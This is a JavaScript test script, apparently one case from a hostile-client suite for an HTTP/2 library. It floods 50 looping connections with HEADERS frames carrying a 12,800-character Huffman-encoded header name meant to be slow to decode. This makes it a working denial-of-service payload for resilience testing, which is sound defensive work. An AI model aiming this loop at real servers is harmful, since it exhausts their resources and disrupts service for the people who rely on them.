// A57: header names that are slow to decode, on 50 connections.
import { FLAG, FRAME, frame, PREFACE } from '@wins/http2-connection/testing';
import { attacking, gone, ONE_SETTING, open, written } from './hostile.mjs';

/** The name has 12,800 letters `a`. Huffman code packs eight of them into five bytes. */
const name = Buffer.concat(Array.from({ length: 1600 }, () => Buffer.from('18c6318c63', 'hex')));
const literal = Buffer.concat([Buffer.from('00ffc13d', 'hex'), name, Buffer.of(0)]);
const calls = Array.from({ length: 50 }, (_, index) =>
  frame(FRAME.headers, FLAG.endHeaders | FLAG.endStream, 1 + 2 * index, literal),
);
const octets = Buffer.concat([PREFACE, ONE_SETTING, ...calls]);
for (let index = 0; index < 50; index += 1) {
  void (async () => {
    for (;;) {
      const socket = open();
      await written(socket, octets);
      attacking();
      socket.destroy();
      await gone(socket);
    }
  })();
}
